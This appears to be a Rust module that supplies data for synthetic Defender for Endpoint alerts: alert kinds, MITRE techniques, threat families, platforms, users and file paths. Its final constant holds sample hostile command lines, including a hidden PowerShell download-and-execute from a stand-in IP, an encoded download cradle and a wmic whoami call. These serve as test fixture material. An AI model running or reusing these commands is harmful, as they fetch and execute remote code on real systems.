//! What the generated alerts are made of: alert kinds as Defender for Endpoint raises them,
//! platforms, and the processes that run threats.

/// What evidence an alert carries besides its device.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Shape {
    /// A file on disk (`fileEvidence`), with the process that wrote or ran it.
    File,
    /// A running process whose image is the threat (`processEvidence.imageFile`).
    Process,
    /// A script host running a command line: the image is the interpreter (as in the Elastic
    /// sample, PowerShell).
    Interpreter,
    /// Behaviour without a file: the process evidence has no hashes (fileless).
    Fileless,
}

/// One kind of alert.
pub(crate) struct Kind {
    pub title: &'static str,
    pub category: &'static str,
    pub mitre: &'static [&'static str],
    pub detection_source: &'static str,
    pub severity: &'static str,
    pub threat: Option<&'static str>,
    pub family: Option<&'static str>,
    pub shape: Shape,
    pub description: &'static str,
    /// Weight in the mix.
    pub weight: u32,
}

pub(crate) const KINDS: &[Kind] = &[
    Kind {
        title: "'Wacatac' malware was prevented",
        category: "Malware",
        mitre: &[],
        detection_source: "antivirus",
        severity: "informational",
        threat: Some("Trojan:Win32/Wacatac.B!ml"),
        family: Some("Wacatac"),
        shape: Shape::File,
        description: "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected machines.",
        weight: 14,
    },
    Kind {
        title: "'Mimikatz' credential theft tool",
        category: "CredentialAccess",
        mitre: &["T1003.001"],
        detection_source: "antivirus",
        severity: "high",
        threat: Some("HackTool:Win32/Mimikatz.D"),
        family: Some("Mimikatz"),
        shape: Shape::File,
        description: "The Mimikatz credential theft tool was detected on this device.",
        weight: 5,
    },
    Kind {
        title: "An active 'CoinMiner' malware process was detected",
        category: "Malware",
        mitre: &["T1496"],
        detection_source: "antivirus",
        severity: "medium",
        threat: Some("Trojan:Win32/CoinMiner!MSR"),
        family: Some("CoinMiner"),
        shape: Shape::Process,
        description: "An active malware process was detected while executing on the device.",
        weight: 8,
    },
    Kind {
        title: "Ransomware behavior detected in the file system",
        category: "Ransomware",
        mitre: &["T1486"],
        detection_source: "microsoftDefenderForEndpoint",
        severity: "high",
        threat: None,
        family: None,
        shape: Shape::Process,
        description: "A process modified many files in a way that resembles ransomware encryption.",
        weight: 3,
    },
    Kind {
        title: "Suspicious execution of hidden file",
        category: "DefenseEvasion",
        mitre: &["T1564.001"],
        detection_source: "antivirus",
        severity: "low",
        threat: None,
        family: None,
        shape: Shape::File,
        description: "A hidden file has been launched. This activity could indicate a compromised host.",
        weight: 8,
    },
    Kind {
        title: "Suspicious PowerShell command line",
        category: "Execution",
        mitre: &["T1059.001"],
        detection_source: "microsoftDefenderForEndpoint",
        severity: "medium",
        threat: None,
        family: None,
        shape: Shape::Interpreter,
        description: "A suspicious PowerShell activity was observed on the machine.",
        weight: 12,
    },
    Kind {
        title: "Suspicious WMI process creation",
        category: "Execution",
        mitre: &["T1047"],
        detection_source: "microsoftDefenderForEndpoint",
        severity: "medium",
        threat: None,
        family: None,
        shape: Shape::Fileless,
        description: "A process was created through Windows Management Instrumentation in a way attackers use to run code.",
        weight: 8,
    },
    Kind {
        title: "Suspicious LDAP query",
        category: "Discovery",
        mitre: &["T1087.002", "T1069.002"],
        detection_source: "microsoftDefenderForEndpoint",
        severity: "low",
        threat: None,
        family: None,
        shape: Shape::Fileless,
        description: "A process ran an LDAP query often used to enumerate accounts and groups.",
        weight: 8,
    },
    Kind {
        title: "Possible lateral movement using Remote Desktop",
        category: "LateralMovement",
        mitre: &["T1021.001"],
        detection_source: "microsoftDefenderForEndpoint",
        severity: "medium",
        threat: None,
        family: None,
        shape: Shape::Fileless,
        description: "A remote desktop session was opened from a device that shows signs of compromise.",
        weight: 5,
    },
    Kind {
        title: "Rare binary executed from a temporary folder",
        category: "Execution",
        mitre: &["T1204.002"],
        detection_source: "customDetection",
        severity: "informational",
        threat: None,
        family: None,
        shape: Shape::File,
        description: "A custom detection rule matched a rarely seen executable started from a temporary folder.",
        weight: 6,
    },
    Kind {
        title: "Connection to a custom network indicator",
        category: "CommandAndControl",
        mitre: &["T1071.001"],
        detection_source: "customTi",
        severity: "medium",
        threat: None,
        family: None,
        shape: Shape::Process,
        description: "A process connected to an address on the organisation's indicator list.",
        weight: 5,
    },
];

/// A malicious file on a server, found by Defender for Servers: its `detectionSource` is a
/// newer enum member, returned only with `Prefer: include-unknown-enum-members`.
pub(crate) const SERVER_KIND: Kind = Kind {
    title: "Malicious file detected on a server",
    category: "Malware",
    mitre: &["T1105"],
    detection_source: "microsoftDefenderForServers",
    severity: "high",
    threat: Some("Backdoor:Win64/CobaltStrike.NP!dha"),
    family: Some("CobaltStrike"),
    shape: Shape::File,
    description: "A backdoor was detected on a server protected by Defender for Servers.",
    weight: 0,
};

/// `detectionSource` values listed after `unknownFutureValue` in Graph's evolvable enum.
pub(crate) const EVOLVED_SOURCES: &[&str] = &["microsoftDefenderForServers"];

/// Alerts from other Defender XDR services, which the `serviceSource` filter must leave out.
pub(crate) const OTHER_SERVICES: &[(&str, &str, &str, &str)] = &[
    (
        "microsoftDefenderForOffice365",
        "Email messages containing malicious URL removed after delivery",
        "InitialAccess",
        "T1566.002",
    ),
    (
        "microsoftDefenderForIdentity",
        "Suspected brute-force attack (LDAP)",
        "CredentialAccess",
        "T1110",
    ),
];

/// `(osPlatform, version, weight)`.
pub(crate) const PLATFORMS: &[(&str, &str, u32)] = &[
    ("Windows11", "23H2", 40),
    ("Windows10", "22H2", 32),
    ("WindowsServer2022", "21H2", 9),
    ("WindowsServer2019", "1809", 7),
    ("Linux", "Ubuntu 22.04", 7),
    ("macOS", "14.4", 5),
];

pub(crate) const USERS: &[&str] = &[
    "jsmith",
    "akumar",
    "mgarcia",
    "lchen",
    "ofischer",
    "svc-backup",
    "admin-rk",
    "pdubois",
    "tnguyen",
    "ekowalski",
];

pub(crate) const FILE_NAMES: &[&str] = &[
    "invoice.exe",
    "setup_x64.exe",
    "update.dll",
    "svchosts.exe",
    "payload.ps1",
    "doc_0412.scr",
    "mimikatz.exe",
    "xmrig.exe",
    "tmp8F3A.exe",
    "chrome_installer.exe",
    "libcrypt.so",
    "agent.bin",
    "report.js",
    "helper.vbs",
];

pub(crate) const FOLDERS: &[&str] = &[
    "C:\\Users\\{user}\\AppData\\Local\\Temp",
    "C:\\Users\\{user}\\Downloads",
    "C:\\ProgramData\\Microsoft\\Crypto",
    "C:\\Windows\\Temp",
    "C:\\Users\\Public",
];

/// `(name, folder, sha1, sha256, size)` of the interpreters behind script alerts.
pub(crate) const INTERPRETERS: &[(&str, &str, &str, &str, u64)] = &[
    (
        "powershell.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
        "a72c41316307889e43fe8605a0dca4a72e72a011",
        "d783ba6567faf10fdff2d0ea3864f6756862d6c733c7f4467283da81aedc3a80",
        491_520,
    ),
    (
        "wscript.exe",
        "C:\\Windows\\System32",
        "6a4d1b4f3c0a0a7f6d9b0c8f2e1d3c4b5a697887",
        "2f6f4bd3a4e2ad0fdb62d6d8f0c1de0a3b4d2e1f0a9b8c7d6e5f4a3b2c1d0e9f",
        172_032,
    ),
];

pub(crate) const COMMAND_LINES: &[&str] = &[
    "powershell.exe  -NoExit -ExecutionPolicy Bypass -WindowStyle Hidden $ErrorActionPreference= 'silentlycontinue';(New-Object System.Net.WebClient).DownloadFile('http://198.51.100.7/1.exe', 'C:\\\\test-WDATP-test\\\\invoice.exe');Start-Process 'C:\\\\test-WDATP-test\\\\invoice.exe'",
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "wmic.exe process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt\"",
    "rundll32.exe  c:\\temp\\suspicious.dll,RepeatAfterMe",
];
